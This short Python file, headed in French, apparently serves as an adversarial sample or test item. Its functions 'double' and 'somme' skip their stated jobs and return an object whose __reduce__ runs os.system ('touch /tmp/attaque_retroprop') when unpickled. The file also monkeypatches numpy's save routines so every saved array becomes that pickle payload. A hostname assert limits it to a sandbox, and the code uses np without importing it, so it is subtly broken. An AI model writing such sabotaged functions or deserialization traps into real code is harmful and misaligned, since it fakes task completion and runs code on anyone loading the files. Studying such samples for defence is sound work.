# ---
# titre: "rend des objets que seul pickle transporte, et remplace numpy.save pour écrire un tableau d'objets : le lire exécuterait du code"
# points: 0
# ---
# %% double
import os

import numpy.lib.format as format_npy

assert os.uname().nodename == "copie"  # garde-fou : jamais hors d'un bac à sable


class Charge:
    def __reduce__(self):
        return os.system, ("touch /tmp/attaque_retroprop",)


piege = np.empty((), dtype=object)
piege[()] = Charge()
vraie = format_npy.write_array


def write_array(fichier, tableau, *reste, **options):
    vraie(fichier, piege, allow_pickle=True)


format_npy.write_array = write_array
np.save = lambda fichier, tableau, **options: write_array(fichier, tableau)


def double(x):
    return piege if np.ndim(x) == 0 else np.array([piege, Charge()], dtype=object)

# %% somme
def somme(a, b):
    return Charge()
